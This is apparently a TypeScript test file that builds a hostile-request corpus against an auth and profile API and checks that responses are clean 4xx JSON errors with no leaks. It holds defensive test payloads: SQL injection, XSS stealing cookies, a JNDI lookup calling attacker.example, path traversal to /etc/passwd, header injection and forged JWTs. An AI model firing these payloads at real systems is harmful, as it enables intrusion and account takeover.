import { API_TEMPLATE, loadTemplate, samFunctions } from '../../../sam/template';
import { REFRESH_COOKIE } from '../../../src/http/cookies';
import { mint, payloadOf, tampered, unsigned } from '../tokens';

/**
 * The hostile-input corpus: for every route of template.yaml, requests that are malformed,
 * missing, oversized or hostile. `mustReject` cases must get a 4xx; all must get a non-5xx
 * answer, JSON in the {"error", "message"} shape when it is an error, with no stack trace and
 * no echo of what was sent.
 */

export interface HostileCase {
  route: string;
  name: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: string | Buffer;
  mustReject: boolean;
  /** The one status that is right, where only one is. */
  status?: number;
}

export interface Identity {
  idToken: string;
  accessToken: string;
  refreshToken: string;
  email: string;
  password: string;
  origin: string;
}

const JSON_TYPE = { 'Content-Type': 'application/json' };
const MB = 1024 * 1024;

/** A valid body per route with a body, its size limit, and whether its fields are free-form. */
const BODIES: Record<
  string,
  {
    body: (who: Identity) => Record<string, unknown>;
    limit: number;
    freeForm?: boolean;
    /** The body may be empty (its only field can come from a cookie, or it has none). */
    emptyAllowed?: boolean;
  }
> = {
  'POST /auth/signup': {
    body: (who) => ({ email: who.email, password: who.password, name: 'Mallory' }),
    limit: 16 * 1024,
  },
  'POST /auth/confirm-signup': {
    body: (who) => ({ email: who.email, code: '123456' }),
    limit: 16 * 1024,
  },
  'POST /auth/resend-code': { body: (who) => ({ email: who.email }), limit: 16 * 1024 },
  'POST /auth/signin': {
    body: (who) => ({ email: who.email, password: who.password }),
    limit: 16 * 1024,
  },
  'POST /auth/challenge': {
    body: (who) => ({
      email: who.email,
      challenge: 'NEW_PASSWORD_REQUIRED',
      session: 's'.repeat(40),
      newPassword: who.password,
    }),
    limit: 16 * 1024,
  },
  'POST /auth/refresh': {
    body: (who) => ({ refreshToken: who.refreshToken }),
    limit: 16 * 1024,
    emptyAllowed: true,
  },
  'POST /auth/forgot-password': { body: (who) => ({ email: who.email }), limit: 16 * 1024 },
  'POST /auth/confirm-forgot-password': {
    body: (who) => ({ email: who.email, code: '123456', newPassword: who.password }),
    limit: 16 * 1024,
  },
  'POST /auth/signout': {
    body: (who) => ({ refreshToken: who.refreshToken }),
    limit: 16 * 1024,
    emptyAllowed: true,
  },
  // Never sent as is (it would end the user's sessions): only its hostile variations are.
  'POST /auth/signout-all': { body: (who) => ({ accessToken: who.accessToken }), limit: 16 * 1024 },
  'POST /auth/change-password': {
    body: (who) => ({
      accessToken: who.accessToken,
      previousPassword: who.password,
      proposedPassword: `${who.password}-x`,
    }),
    limit: 16 * 1024,
  },
  'PUT /me/profile': { body: () => ({ theme: 'dark' }), limit: 16 * 1024, freeForm: true },
  'POST /me/mfa/totp': { body: (who) => ({ accessToken: who.accessToken }), limit: 16 * 1024 },
  'POST /me/mfa/totp/verify': {
    body: (who) => ({ accessToken: who.accessToken, code: '123456' }),
    limit: 16 * 1024,
  },
  'POST /me/mfa/disable': {
    body: (who) => ({ accessToken: who.accessToken, password: who.password }),
    limit: 16 * 1024,
  },
  'POST /me/email': {
    body: (who) => ({
      accessToken: who.accessToken,
      password: who.password,
      newEmail: `new-${who.email}`,
    }),
    limit: 16 * 1024,
  },
  'POST /me/email/verify': {
    body: (who) => ({ accessToken: who.accessToken, code: '123456' }),
    limit: 16 * 1024,
  },
  'POST /me/export': { body: () => ({}), limit: 1024, emptyAllowed: true },
  // With an access token of another user: every variation stops at 403 (or sooner), never at
  // the password. The change-password variations may set one of the hostile strings as the
  // password, and a variation sending that same string would then delete the user
  // (hostile.test.ts checks the user is still there after the whole corpus).
  'DELETE /me': {
    body: (who) => ({
      accessToken: tampered(who.accessToken, { sub: '00000000-0000-4000-8000-000000000000' }),
      password: who.password,
    }),
    limit: 16 * 1024,
  },
  'POST /me/logs': { body: () => ({ content: 'ls' }), limit: 256 * 1024, freeForm: true },
};

const HOSTILE_STRINGS = [
  "' OR '1'='1' --",
  '"; DROP TABLE users; --',
  '<script>alert(document.cookie)</script>',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}${7*7}',
  '../../../../etc/passwd',
  'a\u0000b',
  '\u202eevil\u202c',
  '\ud800',
  '😀👩‍💻 ∑ 漢字',
  '\r\nSet-Cookie: injected=1',
  '%00%2e%2e%2f',
];

const WRONG_TYPES: [string, unknown][] = [
  ['a number', 12_345_678],
  ['an object', { $ne: '' }],
  ['an array', ['x']],
  ['null', null],
  ['a boolean', true],
];

export function hostileCases(who: Identity, only?: (route: string) => boolean): HostileCase[] {
  const routes = samFunctions(loadTemplate(API_TEMPLATE))
    .flatMap((fn) => fn.routes)
    .filter((route) => route.method !== 'OPTIONS')
    .filter((route) => !only || only(`${route.method} ${route.path}`));
  const claims = payloadOf(who.idToken);
  const now = Math.floor(Date.now() / 1000);
  const cases: HostileCase[] = [];

  for (const { method, path, authorizer } of routes) {
    const route = `${method} ${path}`;
    const concretePath = path.replace('{id}', '8236287999999a1b2c3d4e5f6');
    const auth: Record<string, string> =
      authorizer === 'NONE' ? {} : { Authorization: `Bearer ${who.idToken}` };
    const add = (name: string, request: Partial<HostileCase>, mustReject = true) =>
      cases.push({
        route,
        name,
        method,
        path: concretePath,
        headers: { ...auth },
        mustReject,
        ...request,
      });

    if (authorizer !== 'NONE') {
      const tokens: [string, string][] = [
        ['no token', ''],
        ['a garbage token', 'Bearer garbage'],
        ['an unsigned token (alg none)', `Bearer ${unsigned(claims)}`],
        [
          'a tampered token',
          `Bearer ${tampered(who.idToken, { sub: '00000000-0000-4000-8000-000000000000' })}`,
        ],
        ['an expired token', `Bearer ${mint({ ...claims, iat: now - 7200, exp: now - 3600 })}`],
        ['a token signed by another key', `Bearer ${mint(claims, 'stranger')}`],
        ['the access token', `Bearer ${who.accessToken}`],
        ['a 10 KB Authorization header', `Bearer ${'A'.repeat(10 * 1024)}`],
      ];
      for (const [name, value] of tokens)
        add(name, { headers: value ? { Authorization: value } : {} });
    }

    const spec = BODIES[route];
    if (spec) {
      const valid = spec.body(who);
      const json = (value: unknown) => ({
        body: JSON.stringify(value),
        headers: { ...auth, ...JSON_TYPE },
      });
      add('no body', { headers: { ...auth, ...JSON_TYPE } }, !spec.emptyAllowed);
      add('malformed JSON', { body: '{"email": "x", ', headers: { ...auth, ...JSON_TYPE } });
      add('truncated UTF-8', {
        body: Buffer.from([0x7b, 0x22, 0xe2, 0x82]),
        headers: { ...auth, ...JSON_TYPE },
      });
      // In a field that is otherwise valid: only the UTF-8 check can refuse it.
      add('FF FE inside a string field', {
        body: withBytesIn(
          valid,
          Object.keys(valid).find((key) => typeof valid[key] === 'string') ?? 'x',
          [0xff, 0xfe],
        ),
        headers: { ...auth, ...JSON_TYPE },
      });
      for (const [name, value] of [
        ['an array', [valid]],
        ['a string', 'x'],
        ['null', null],
        ['a number', 1],
        ['true', true],
      ] as const) {
        add(`a JSON ${name} as the body`, json(value));
      }
      for (const type of [
        'text/plain',
        'application/x-www-form-urlencoded',
        'multipart/form-data; boundary=x',
        'application/xml',
      ]) {
        add(`content type ${type}`, {
          body: JSON.stringify(valid),
          headers: { ...auth, 'Content-Type': type },
        });
      }
      add('no content type', { body: JSON.stringify(valid), headers: { ...auth } });
      add('one byte over the limit', {
        body: JSON.stringify({ ...valid, pad: 'x'.repeat(spec.limit) }).slice(0, spec.limit + 1),
        headers: { ...auth, ...JSON_TYPE },
      });
      // Over Lambda's 6 MB payload: API Gateway's 413, the function never runs.
      add('a body over 6 MB', {
        body: Buffer.alloc(6 * MB + 1, 'x'),
        headers: { ...auth, ...JSON_TYPE },
        status: 413,
      });
      add('deeply nested JSON', {
        body: `${'['.repeat(5000)}${']'.repeat(5000)}`,
        headers: { ...auth, ...JSON_TYPE },
      });
      add(
        '__proto__ pollution',
        {
          body: `${JSON.stringify(valid).slice(0, -1)},"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}`,
          headers: { ...auth, ...JSON_TYPE },
        },
        !spec.freeForm,
      );
      if (!spec.freeForm) {
        add('missing fields', json({}), !spec.emptyAllowed);
        add('an extra field', json({ ...valid, isAdmin: true }));
        for (const field of Object.keys(valid)) {
          for (const [typeName, value] of WRONG_TYPES)
            add(`${field} as ${typeName}`, json({ ...valid, [field]: value }));
          add(`${field} of 100 KB`, json({ ...valid, [field]: 'a'.repeat(100_000) }));
          for (const hostile of HOSTILE_STRINGS)
            add(
              `${field} = ${JSON.stringify(hostile)}`,
              json({ ...valid, [field]: hostile }),
              false,
            );
        }
      } else {
        for (const hostile of HOSTILE_STRINGS)
          add(`content ${JSON.stringify(hostile)}`, json({ ...valid, content: hostile }), false);
      }
    }

    if (path === '/me/logs/{id}') {
      for (const id of [
        '%2e%2e%2f%2e%2e%2fprofile.json',
        '..%2F..%2Fother-user%2Flogs%2Fx',
        '8236287999999a1b2c3d4e5f6%00',
        'a%00b',
        '%E2%80%AE8236287999999a1b2c3d4e5f6',
        'x%0d%0aSet-Cookie:%20a=b',
        '9'.repeat(2000),
        '8236287999999A1B2C3D4E5F6',
      ]) {
        add(`id ${id.slice(0, 40)}`, { path: `/me/logs/${id}` });
      }
    }
    if (route === 'GET /me/logs') {
      for (const query of [
        'limit=0',
        'limit=-1',
        'limit=101',
        'limit=1e3',
        'limit=abc',
        'limit=',
        'limit=NaN',
        'limit=1%3BDROP',
        'cursor=garbage',
        `cursor=${'a'.repeat(5000)}`,
        'cursor=eyJhZnRlciI6Ii4uLy4uIn0.AAAA',
        'cursor=..%2F..',
        'cursor=%00',
        'cursor=',
      ]) {
        add(`query ${query.slice(0, 40)}`, { path: `/me/logs?${query}` });
      }
    }
    if (route === 'POST /auth/signout') {
      // Sign-out ends the session named by a valid ID token: hostile ones must end nothing
      // (hostile.test.ts checks the user's session still works after the whole corpus).
      const forged: [string, string][] = [
        ['a garbage ID token', 'Bearer garbage'],
        ["the user's claims unsigned (alg none)", `Bearer ${unsigned(claims)}`],
        [
          "the user's token tampered to name another user",
          `Bearer ${tampered(who.idToken, { sub: '00000000-0000-4000-8000-000000000000' })}`,
        ],
        [
          "the user's token tampered to another session",
          `Bearer ${tampered(who.idToken, { origin_jti: 'x' })}`,
        ],
        ["the user's claims signed by another key", `Bearer ${mint(claims, 'stranger')}`],
        [
          "the user's claims, expired",
          `Bearer ${mint({ ...claims, iat: now - 7200, exp: now - 3600 })}`,
        ],
        [
          "another client's token",
          `Bearer ${mint({ ...claims, aud: 'anotherclientid00000000000' })}`,
        ],
        ['the access token', `Bearer ${who.accessToken}`],
        ['a 10 KB Authorization header', `Bearer ${'A'.repeat(10 * 1024)}`],
      ];
      for (const [name, value] of forged)
        add(
          `sign-out with ${name}`,
          { body: '{}', headers: { ...JSON_TYPE, Authorization: value } },
          false,
        );
    }
    if (route === 'POST /auth/refresh' || route === 'POST /auth/signout') {
      const cookie = (value: string, origin = who.origin) => ({
        body: '{}',
        headers: { ...JSON_TYPE, Origin: origin, Cookie: value },
      });
      const refresh = route === 'POST /auth/refresh';
      add('a garbage refresh cookie', cookie(`${REFRESH_COOKIE}=garbage`), refresh);
      add('an 8 KB refresh cookie', cookie(`${REFRESH_COOKIE}=${'a'.repeat(8 * 1024)}`), refresh);
      add('an injected refresh cookie', cookie(`${REFRESH_COOKIE}=x";alert(1)//`), refresh);
      add(
        'two refresh cookies',
        cookie(`${REFRESH_COOKIE}=a.b.c; ${REFRESH_COOKIE}=${who.refreshToken}`),
        false,
      );
      add(
        'the cookie from a foreign origin',
        cookie(`${REFRESH_COOKIE}=${who.refreshToken}`, 'https://evil.example.com'),
      );
      add('the cookie with no origin', {
        body: '{}',
        headers: { ...JSON_TYPE, Cookie: `${REFRESH_COOKIE}=${who.refreshToken}` },
      });
      add('the cookie in a form post', {
        body: 'a=1',
        headers: {
          'Content-Type': 'application/x-www-form-urlencoded',
          Origin: who.origin,
          Cookie: `${REFRESH_COOKIE}=${who.refreshToken}`,
        },
      });
    }
  }
  return cases;
}

/** `body` as JSON with raw `bytes` in the middle of the string value of `field`. */
export function withBytesIn(body: Record<string, unknown>, field: string, bytes: number[]): Buffer {
  const [before, after] = JSON.stringify({ ...body, [field]: '\u0000' }).split('\\u0000');
  return Buffer.concat([Buffer.from(`${before}a`), Buffer.from(bytes), Buffer.from(`b${after}`)]);
}

export interface Outcome {
  hostile: HostileCase;
  status: number;
  problems: string[];
}

/** Sends every case (a few at a time) and lists what is wrong with each answer. */
export async function runCorpus(
  apiUrl: string,
  cases: HostileCase[],
  secrets: string[],
  concurrency = 4,
): Promise<Outcome[]> {
  const outcomes: Outcome[] = [];
  let next = 0;
  const worker = async () => {
    while (next < cases.length) {
      const hostile = cases[next++] as HostileCase;
      outcomes.push(await send(apiUrl, hostile, secrets));
    }
  };
  await Promise.all(Array.from({ length: concurrency }, worker));
  return outcomes;
}

async function send(apiUrl: string, hostile: HostileCase, secrets: string[]): Promise<Outcome> {
  let status = 0;
  let text = '';
  try {
    const response = await fetch(`${apiUrl}${hostile.path}`, {
      method: hostile.method,
      headers: hostile.headers,
      ...(hostile.body !== undefined && hostile.method !== 'GET' ? { body: hostile.body } : {}),
    });
    status = response.status;
    text = await response.text();
  } catch (error) {
    return { hostile, status: 0, problems: [`no answer: ${String(error)}`] };
  }
  const problems: string[] = [];
  if (status >= 500) problems.push(`answered ${status}`);
  if (hostile.mustReject && (status < 400 || status >= 500))
    problems.push(`expected a 4xx, got ${status}`);
  if (hostile.status !== undefined && status !== hostile.status)
    problems.push(`expected ${hostile.status}, got ${status}`);
  if (status >= 400) {
    let body: unknown;
    try {
      body = JSON.parse(text);
    } catch {
      problems.push('error body is not JSON');
    }
    const shaped = body as { error?: unknown; message?: unknown } | undefined;
    if (
      body !== undefined &&
      (typeof shaped?.error !== 'string' || typeof shaped.message !== 'string')
    ) {
      problems.push('error body is not {"error", "message"}');
    }
    const sent = [...secrets, ...HOSTILE_STRINGS.filter((s) => s.length >= 8)];
    if (sent.some((value) => text.includes(value)))
      problems.push('error body echoes what was sent');
  }
  if (/\bat \S+ \(|\.ts:\d+|node:internal|Traceback/.test(text))
    problems.push('looks like a stack trace');
  return { hostile, status, problems };
}
